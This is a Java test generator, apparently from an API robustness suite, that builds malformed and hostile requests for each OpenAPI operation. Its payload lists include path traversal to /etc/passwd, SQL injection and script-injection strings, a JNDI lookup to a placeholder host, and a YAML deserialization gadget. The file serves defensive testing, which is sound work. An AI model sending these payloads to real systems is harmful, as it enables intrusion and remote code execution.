package org.cbdf.platform.testing.hostile;

import static org.cbdf.platform.testing.hostile.HostileJudge.*;
import static org.cbdf.platform.testing.hostile.OpenApiOperations.*;
import static org.cbdf.platform.testing.hostile.Texts.*;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.function.Function;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * The generator: for an operation, one case of each kind that applies to it, then {@link #RANDOM_CASES} drawn at
 * random, from {@value #ALGORITHM} generators seeded from {@link #SEED} and the operation (no property-testing library):
 * the same seed gives the same cases in the same order, and a case's description says how to get it again.
 */
public final class HostileCases {

    private HostileCases() {
    }

    public static final String ALGORITHM = "L64X128MixRandom";
    /** Fixed so that a run is reproducible. */
    public static final long SEED = Long.getLong("cbdf.hostile.seed", 0x4057_11E_1A9E7L);
    /** Random cases per operation, on top of one case of each kind. */
    public static final int RANDOM_CASES = Integer.getInteger("cbdf.hostile.cases", 24);

    static final int TWO_MEGABYTES = 2 * 1024 * 1024;
    static final int NESTING = 10_000;
    static final int HUGE_STRING = 30_000;
    /** What a body may hold so that it stays under the services' 64 KiB limit (and is refused for what it says). */
    static final int BODY_BUDGET = 60_000;
    static final String MARKER = "__hostile_value_7f3a__";
    static final Set<String> METHODS = Set.of("GET", "POST", "PUT", "PATCH", "DELETE");

    /** One case of each kind that applies to {@code endpoint}, then {@link #RANDOM_CASES} drawn at random. */
    public static List<Case> cases(JsonNode apiDocs, Endpoint endpoint) {
        return cases(apiDocs, endpoint, Map.of());
    }

    /** As {@link #cases(JsonNode, Endpoint)}, half of them with path variables from {@code existing}. */
    public static List<Case> cases(JsonNode apiDocs, Endpoint endpoint, Map<String, List<String>> existing) {
        List<Kind> kinds = List.of(Kind.values()).stream().filter(kind -> kind.appliesTo(endpoint)).toList();
        // a body over the limit is refused the same way whatever it holds: once is enough
        List<Kind> drawn = kinds.stream().filter(kind -> kind != Kind.TOO_LARGE).toList();
        // an operation without parameters or body has little to vary: the other methods of its path
        int random = drawn.equals(List.of(Kind.WRONG_METHOD)) ? 4 : RANDOM_CASES;
        long[] seeds = new SplittableRandom(SEED ^ endpoint.toString().hashCode()).longs(kinds.size() + random)
                .toArray();
        List<Case> cases = new ArrayList<>();
        for (int i = 0; i < seeds.length; i++) {
            RandomGenerator generator = RandomGeneratorFactory.of(ALGORITHM).create(seeds[i]);
            boolean first = i < kinds.size();
            Kind kind = first ? kinds.get(i) : drawn.get(generator.nextInt(drawn.size()));
            String label = "%s #%d (seed %d, case seed %d)".formatted(kind.name().toLowerCase(Locale.ROOT)
                    .replace('_', ' '), i + 1, SEED, seeds[i]);
            cases.add(new Generation(apiDocs, endpoint, existing, generator, first).build(kind, label));
        }
        return cases;
    }

    enum Kind {
        TOO_LARGE, WRONG_METHOD, BAD_PATH_VARIABLE, MISSING_QUERY_PARAMETER, BAD_QUERY_PARAMETER, BAD_HEADER,
        EMPTY_BODY, MALFORMED_BODY, DEEP_NESTING, WRONG_CONTENT_TYPE, WRONG_TYPE, UNKNOWN_ENUM_VALUE, HUGE_STRING,
        HUGE_ARRAY, BOUNDARY_NUMBER, NULL_VALUE, ODD_TEXT;

        boolean appliesTo(Endpoint endpoint) {
            return switch (this) {
                case TOO_LARGE, WRONG_METHOD -> true;
                case BAD_PATH_VARIABLE -> !endpoint.parameters("path").isEmpty();
                case MISSING_QUERY_PARAMETER -> endpoint.parameters("query").stream().anyMatch(Parameter::required);
                case BAD_QUERY_PARAMETER -> !endpoint.parameters("query").isEmpty();
                case BAD_HEADER -> !endpoint.parameters("header").isEmpty();
                case EMPTY_BODY -> endpoint.hasBody() && endpoint.bodyRequired();
                case MALFORMED_BODY, DEEP_NESTING, WRONG_CONTENT_TYPE -> endpoint.hasBody();
                case WRONG_TYPE, UNKNOWN_ENUM_VALUE, HUGE_STRING, HUGE_ARRAY, BOUNDARY_NUMBER, NULL_VALUE, ODD_TEXT ->
                        endpoint.hasBody() && endpoint.jsonBody();
            };
        }
    }

    /** Where a value of the generated body sits and what its schema is; {@code container} null for the root. */
    private record Slot(JsonNode container, String field, int index, JsonNode schema) {

        String type() {
            return OpenApiOperations.type(schema);
        }

        void set(JsonNode value) {
            if (container instanceof ObjectNode object) {
                object.set(field, value);
            } else if (container instanceof ArrayNode array) {
                array.set(index, value);
            }
        }
    }

    /** The making of one case: a plausible request for the operation, then one hostile change to it. */
    private static final class Generation {

        private static final List<String> BAD_PATH_SEGMENTS = List.of("..", "%2E%2E", "%2F", "..%2F..%2Fetc%2Fpasswd",
                "%00", "%25", "%5C", "%20", "%3B", "a%3Bb%3Dc", "%C0%AF", "%FF%FE", "-1", "9223372036854775808",
                "1e309", "NaN", "null", "undefined", "x".repeat(3000), encode("Ω≈ç√∫ 名前"),
                encode("' OR '1'='1"),
                encode("<script>alert(1)</script>"), encode("${jndi:ldap://example.invalid/a}"), encode("\t\n"));
        private static final List<String> MALFORMED_JSON = List.of("{", "}", "[1,2", "{\"a\":}", "{'a':1}",
                "{\"a\":1,}", "{\"a\" 1}", "nul", "tru", "\"unterminated", "{\"a\":NaN}", "{\"a\":Infinity}",
                "{\"a\":-Infinity}", "{\"a\":01}", "{\"a\":0x1F}", "/* comment */ {}", "{\"a\":\"\\x41\"}",
                "{\"a\":\"\\uZZZZ\"}", "\u0000", "{\"a\":\"b\"\u0000}", ":", ",", "]", "{{}}", "[,]");
        private static final List<String> MALFORMED_YAML = List.of("key: [unclosed", "a: b: c", "- a\n b: -",
                "\t- tab indented", "key: \"unterminated", "{ a: 1", "? [\n", "&a [*a]", "!!binary not-base64 %%%",
                "--- !<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!!java.net.URLClassLoader [[]]]");
        private static final List<String> BOUNDARY_NUMBERS = List.of("0", "-1", "9223372036854775807",
                "-9223372036854775808", "9223372036854775808", "-9223372036854775809", "2147483648", "1e309",
                "-1e309", "4.9e-324", "1.7976931348623157e308", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "1.5",
                "-0", "1E400", "0.1e-400", "\"12abc\"", "1" + "0".repeat(500));

        /** Texts a database, a log line or a regular expression may choke on, as JSON strings. */
        private static final List<String> ODD_TEXTS = List.of("\"a\\u0000b\"", "\"\\ud800\"", "\"\\udfff\\ud800\"",
                "\"\\u202e\\u200b\\ufeff\"", "\"" + "é".repeat(1000) + "\"", "\"" + "x".repeat(256) + "\"",
                "\"" + "x".repeat(5000) + "\"", "\"' OR 1=1; --\"", "\"<script>alert(1)</script>\"",
                "\"\\r\\n\\t\"", "\"   \"", "\"\"", "\"%s%n%x\"", "\"${jndi:ldap://example.invalid/a}\"",
                "\"((a+)+)+b\"", "\"\uD83D\uDE00\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08\"");

        private final JsonNode apiDocs;
        private final Endpoint endpoint;
        private final Map<String, List<String>> existing;
        private final RandomGenerator random;
        private final boolean first;
        private final List<Slot> slots = new ArrayList<>();

        Generation(JsonNode apiDocs, Endpoint endpoint, Map<String, List<String>> existing, RandomGenerator random,
                boolean first) {
            this.apiDocs = apiDocs;
            this.endpoint = endpoint;
            this.existing = existing;
            this.random = random;
            this.first = first;
        }

        Case build(Kind kind, String label) {
            Map<String, String> pathValues = new LinkedHashMap<>();
            for (Parameter parameter : endpoint.parameters("path")) {
                List<String> known = existing.getOrDefault(parameter.name(), List.of());
                pathValues.put(parameter.name(), encode(!known.isEmpty() && random.nextBoolean()
                        ? known.get(random.nextInt(known.size())) : plausible(parameter.schema())));
            }
            Map<String, String> query = new LinkedHashMap<>();
            for (Parameter parameter : endpoint.parameters("query")) {
                if (parameter.required()) {
                    query.put(parameter.name(), encode(plausible(parameter.schema())));
                }
            }
            Map<String, String> headers = new LinkedHashMap<>();
            headers.put("Accept", accept());
            String method = endpoint.method();
            byte[] body = null;
            JsonNode tree = null;
            if (endpoint.hasBody()) {
                headers.put("Content-Type", endpoint.bodyTypes().getFirst());
                if (endpoint.jsonBody()) {
                    tree = value(endpoint.bodySchema(), null, null, -1, 0);
                    body = bytes(write(tree));
                } else {
                    body = bytes("text: " + word());
                }
            }
            Expect expect = Expect.REFUSED;
            switch (kind) {
                case TOO_LARGE -> {
                    headers.putIfAbsent("Content-Type", "application/json");
                    byte[] large = new byte[TWO_MEGABYTES];
                    java.util.Arrays.fill(large, (byte) ' ');
                    large[0] = '[';
                    large[large.length - 1] = ']';
                    body = large;
                    expect = Expect.TOO_LARGE;
                }
                case WRONG_METHOD -> {
                    List<String> others = new ArrayList<>(List.of("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE"));
                    others.removeAll(endpoint.methodsOfPath());
                    method = pick(others);
                    if (method.equals("GET") || method.equals("DELETE") || method.equals("TRACE")) {
                        body = null;
                        headers.remove("Content-Type");
                    }
                }
                case BAD_PATH_VARIABLE -> {
                    Parameter parameter = pick(endpoint.parameters("path"));
                    pathValues.put(parameter.name(), pick(BAD_PATH_SEGMENTS));
                }
                case MISSING_QUERY_PARAMETER -> query.remove(
                        pick(endpoint.parameters("query").stream().filter(Parameter::required).toList()).name());
                case BAD_QUERY_PARAMETER -> expect = badQuery(query);
                case BAD_HEADER -> {
                    Parameter parameter = pick(endpoint.parameters("header"));
                    headers.put(parameter.name(), pick(List.of("", "k".repeat(5000), "a,b,c", "\"quoted\"")));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case EMPTY_BODY -> body = new byte[0];
                case MALFORMED_BODY -> body = malformed(body);
                case DEEP_NESTING -> body = deeplyNested(tree);
                case WRONG_CONTENT_TYPE -> {
                    String[] wrong = pick(wrongContentTypes());
                    if (wrong[0] == null) {
                        headers.remove("Content-Type");
                    } else {
                        headers.put("Content-Type", wrong[0]);
                    }
                    if (wrong[1] != null) {
                        body = bytes(wrong[1]);
                    }
                }
                case WRONG_TYPE -> body = replaced(tree, this::wrongType, slot -> slot.type() != null);
                case UNKNOWN_ENUM_VALUE -> {
                    body = replaced(tree, slot -> "\"NOT_A_" + word().toUpperCase(Locale.ROOT) + "\"",
                            slot -> slot.schema().has("enum"));
                    if (body == null) {
                        // no enum in the body: an unknown value in a field that is free text, at least not a 5xx
                        body = replaced(tree, slot -> "\"NOT_A_KNOWN_VALUE\"", slot -> "string".equals(slot.type()));
                        expect = Expect.NO_SERVER_ERROR;
                    }
                }
                case HUGE_STRING -> {
                    String unit = pick(List.of("x", "Ω", "\\u0000", "\\\"", "名"));
                    body = replaced(tree, slot -> "\"" + unit.repeat(HUGE_STRING / unit.length()) + "\"",
                            slot -> "string".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case HUGE_ARRAY -> {
                    body = replaced(tree, this::hugeArray, slot -> "array".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case BOUNDARY_NUMBER -> {
                    body = replaced(tree, slot -> pick(BOUNDARY_NUMBERS),
                            slot -> "integer".equals(slot.type()) || "number".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
                case NULL_VALUE -> {
                    body = replaced(tree, slot -> "null", slot -> true);
                    expect = Expect.NO_SERVER_ERROR;
                }
                case ODD_TEXT -> {
                    body = replaced(tree, slot -> pick(ODD_TEXTS), slot -> "string".equals(slot.type()));
                    expect = Expect.NO_SERVER_ERROR;
                }
            }
            if (body == null && endpoint.hasBody() && List.of(Kind.WRONG_TYPE, Kind.UNKNOWN_ENUM_VALUE,
                    Kind.HUGE_STRING, Kind.HUGE_ARRAY, Kind.BOUNDARY_NUMBER, Kind.ODD_TEXT).contains(kind)) {
                // nothing in this body to change that way: send it whole, which may be valid
                body = bytes(write(tree));
                expect = Expect.NO_SERVER_ERROR;
            }
            String target = target(pathValues, query);
            return new Case(kind.name(), label, method, target, headers, body, expect);
        }

        private String accept() {
            List<String> types = new ArrayList<>(endpoint.produces());
            types.remove("*/*");
            if (types.isEmpty()) {
                types.add("application/json");
            }
            types.add(PROBLEM_JSON);
            return String.join(", ", types);
        }

        private String target(Map<String, String> pathValues, Map<String, String> query) {
            String path = endpoint.path();
            for (Map.Entry<String, String> value : pathValues.entrySet()) {
                path = path.replace("{" + value.getKey() + "}", value.getValue());
            }
            StringBuilder target = new StringBuilder(path);
            char separator = '?';
            for (Map.Entry<String, String> parameter : query.entrySet()) {
                target.append(separator).append(encode(parameter.getKey())).append('=').append(parameter.getValue());
                separator = '&';
            }
            return target.toString();
        }

        /** A wrong value for one query parameter: refused if its schema rules it out, else merely not a 5xx. */
        private Expect badQuery(Map<String, String> query) {
            Parameter parameter = pick(endpoint.parameters("query"));
            JsonNode schema = parameter.schema();
            String type = String.valueOf(type(schema));
            String format = schema.path("format").asString("");
            List<String> refused = new ArrayList<>();
            List<String> doubtful = new ArrayList<>(List.of("x".repeat(4000), "%00", encode("Ω≈ç√∫"),
                    encode("' OR 1=1 --"), "%25", encode("<a>")));
            switch (type) {
                case "integer" -> {
                    refused.addAll(List.of("abc", "1.5", "99999999999999999999", "1e309", "NaN", "1_000"));
                    if ("int32".equals(format)) {
                        refused.add("2147483648");
                    }
                    if (schema.has("minimum")) {
                        refused.add(Long.toString(schema.get("minimum").asLong() - 1));
                    }
                    if (schema.has("maximum")) {
                        refused.add(Long.toString(schema.get("maximum").asLong() + 1));
                    }
                    // Spring reads hexadecimal (0x10) and octal (010) numbers too
                    doubtful.addAll(List.of("0", "-1", "9223372036854775807", "-9223372036854775808", "0x10", "010"));
                }
                case "number" -> refused.addAll(List.of("abc", "1,5", "--1"));
                case "boolean" -> refused.addAll(List.of("maybe", "2", "truth"));
                case "string" -> {
                    if (schema.has("enum")) {
                        refused.addAll(List.of("NOT_A_VALUE", "lower", encode("ÜNKNOWN")));
                    } else if (format.equals("date")) {
                        refused.addAll(List.of("2026-13-45", "yesterday", "2026-02-30", "20261201"));
                    } else if (format.equals("date-time")) {
                        refused.addAll(List.of("2026-13-45T00:00:00Z", "now", "2026-12-01T25:00:00Z"));
                    } else if (format.equals("uuid")) {
                        refused.addAll(List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000G"));
                    } else if (schema.has("pattern")) {
                        for (String candidate : List.of("!!", "x".repeat(300), "lower", "123")) {
                            if (!matches(schema.get("pattern").asString(), candidate)) {
                                refused.add(encode(candidate));
                            }
                        }
                    }
                }
                default -> {
                }
            }
            boolean takeRefused = !refused.isEmpty() && (refused.size() >= doubtful.size() || random.nextBoolean());
            query.put(parameter.name(), takeRefused ? pick(refused) : pick(doubtful));
            return takeRefused ? Expect.REFUSED : Expect.NO_SERVER_ERROR;
        }

        private byte[] malformed(byte[] plausible) {
            boolean yaml = !endpoint.jsonBody();
            int choice = random.nextInt((yaml ? MALFORMED_YAML : MALFORMED_JSON).size() + 2);
            if (choice == 0 && plausible != null && plausible.length > 2 && !yaml) {
                // cut off somewhere inside
                return java.util.Arrays.copyOf(plausible, 1 + random.nextInt(plausible.length - 2));
            }
            if (choice == 1) {
                // not UTF-8
                return new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, (byte) 0xC0, '"', '}' };
            }
            return bytes(pick(yaml ? MALFORMED_YAML : MALFORMED_JSON));
        }

        private byte[] deeplyNested(JsonNode tree) {
            if (!endpoint.jsonBody()) {
                return bytes("[".repeat(NESTING) + "]".repeat(NESTING));
            }
            String nested = random.nextBoolean() ? "[".repeat(NESTING) + "]".repeat(NESTING)
                    : "{\"a\":".repeat(NESTING) + "1" + "}".repeat(NESTING);
            if (random.nextBoolean() || tree == null) {
                return bytes(nested);
            }
            byte[] inside = replaced(tree, slot -> nested, slot -> slot.container() != null);
            return inside != null ? inside : bytes(nested);
        }

        private List<String[]> wrongContentTypes() {
            List<String[]> types = new ArrayList<>();
            types.add(new String[] { null, null });
            for (String[] candidate : List.of(new String[] { "text/plain", null },
                    new String[] { "application/xml", "<transfer><purpose>x</purpose></transfer>" },
                    new String[] { "application/x-www-form-urlencoded", "a=b&c=d" },
                    new String[] { "multipart/form-data; boundary=----hostile", "------hostile\r\nContent-Disposition: "
                            + "form-data; name=\"a\"\r\n\r\nb\r\n------hostile" },
                    new String[] { "multipart/form-data", "no boundary at all" },
                    new String[] { "application/json; charset=x-no-such-charset", null },
                    new String[] { "application/json; charset=UTF-16", null },
                    new String[] { "foo", null }, new String[] { "application/", null },
                    new String[] { "text/html", "<html></html>" }, new String[] { "image/png", "\u0089PNG" },
                    new String[] { "application/yaml", "a: b" }, new String[] { "application/json", "{}" })) {
                String type = candidate[0].toLowerCase(Locale.ROOT);
                boolean declared = endpoint.bodyTypes().stream().anyMatch(declaredType -> type.startsWith(declaredType))
                        || (endpoint.jsonBody() && type.startsWith("application/json")
                                && !type.contains("charset"));
                if (!declared) {
                    types.add(candidate);
                }
            }
            return types;
        }

        private String wrongType(Slot slot) {
            return switch (slot.type()) {
                case "object" -> pick(List.of("[]", "\"text\"", "true", "[{}]"));
                case "array" -> pick(List.of("{}", "\"text\"", "42", "true", "{\"0\":1}"));
                case "string" -> pick(List.of("{}", "[]", "[\"a\",\"b\"]", "{\"a\":1}"));
                case "integer", "number" -> pick(List.of("\"ten\"", "{}", "[]", "[1]", "\"\""));
                case "boolean" -> pick(List.of("\"maybe\"", "{}", "[]", "\"\""));
                default -> "{}";
            };
        }

        private String hugeArray(Slot slot) {
            JsonNode items = resolve(apiDocs, slot.schema().path("items"));
            String item = write(value(items, null, null, -1, 4));
            int count = Math.max(1_000, Math.min(NESTING, BODY_BUDGET / (item.length() + 1)));
            if ((item.length() + 1) * count > BODY_BUDGET) {
                item = "0";
                count = NESTING;
            }
            StringBuilder array = new StringBuilder("[");
            for (int i = 0; i < count; i++) {
                array.append(i == 0 ? "" : ",").append(item);
            }
            return array.append(']').toString();
        }

        /** The body with one slot that {@code where} accepts replaced by raw JSON text; null if none does. */
        private byte[] replaced(JsonNode tree, Function<Slot, String> raw, java.util.function.Predicate<Slot> where) {
            List<Slot> candidates = slots.stream().filter(where).toList();
            if (candidates.isEmpty()) {
                return null;
            }
            Slot slot = first ? candidates.get(candidates.size() - 1) : pick(candidates);
            String fragment = raw.apply(slot);
            if (slot.container() == null) {
                return bytes(fragment);
            }
            slot.set(NODES.stringNode(MARKER));
            return bytes(write(tree).replace("\"" + MARKER + "\"", fragment));
        }

        /** A plausible value for {@code schema}, recording where each value sits. */
        private JsonNode value(JsonNode schema, JsonNode container, String field, int index, int depth) {
            JsonNode resolved = resolve(apiDocs, schema);
            slots.add(new Slot(container, field, index, resolved));
            String type = type(resolved);
            if (type == null || depth > 6) {
                return resolved.has("example") ? resolved.get("example") : NODES.objectNode();
            }
            switch (type) {
                case "object" -> {
                    ObjectNode object = NODES.objectNode();
                    for (Map.Entry<String, JsonNode> property : resolved.path("properties").properties()) {
                        object.set(property.getKey(), NODES.nullNode());
                        object.set(property.getKey(), value(property.getValue(), object, property.getKey(), -1,
                                depth + 1));
                    }
                    if (resolved.path("additionalProperties").isObject()) {
                        object.set("key", NODES.nullNode());
                        object.set("key", value(resolved.get("additionalProperties"), object, "key", -1, depth + 1));
                    }
                    return object;
                }
                case "array" -> {
                    ArrayNode array = NODES.arrayNode();
                    int size = 1 + random.nextInt(2);
                    for (int i = 0; i < size; i++) {
                        array.add(NODES.nullNode());
                        array.set(i, value(resolved.path("items"), array, null, i, depth + 1));
                    }
                    return array;
                }
                case "integer" -> {
                    return resolved.has("example") && random.nextBoolean() ? resolved.get("example")
                            : NODES.numberNode(random.nextLong(1, 1_000));
                }
                case "number" -> {
                    return NODES.numberNode(random.nextInt(1, 1_000) / 4.0);
                }
                case "boolean" -> {
                    return NODES.booleanNode(random.nextBoolean());
                }
                default -> {
                    return NODES.stringNode(plausible(resolved));
                }
            }
        }

        /** A plausible scalar for {@code schema}, as text (path and query values, strings of the body). */
        private String plausible(JsonNode schema) {
            JsonNode resolved = resolve(apiDocs, schema);
            if (resolved.has("enum") && !resolved.get("enum").isEmpty()) {
                JsonNode values = resolved.get("enum");
                return values.get(random.nextInt(values.size())).asString();
            }
            String type = String.valueOf(type(resolved));
            if (type.equals("integer") || type.equals("number")) {
                return Long.toString(random.nextLong(1_000_000, 1_000_000_000));
            }
            if (type.equals("boolean")) {
                return Boolean.toString(random.nextBoolean());
            }
            return switch (resolved.path("format").asString("")) {
                case "date" -> "2026-12-0" + (1 + random.nextInt(9));
                case "date-time" -> "2026-12-0" + (1 + random.nextInt(9)) + "T10:00:00Z";
                case "uuid" -> new UUID(random.nextLong(), random.nextLong()).toString();
                default -> resolved.has("example") && random.nextBoolean() ? resolved.get("example").asString()
                        : word();
            };
        }

        private String word() {
            return pick(List.of("DE", "CN", "acme", "no-such-" + Long.toString(random.nextLong(1L << 40), 36),
                    "Lorem ipsum dolor", Integer.toString(random.nextInt(100))));
        }

        private <T> T pick(List<T> values) {
            return values.get(first ? 0 : random.nextInt(values.size()));
        }
    }
}
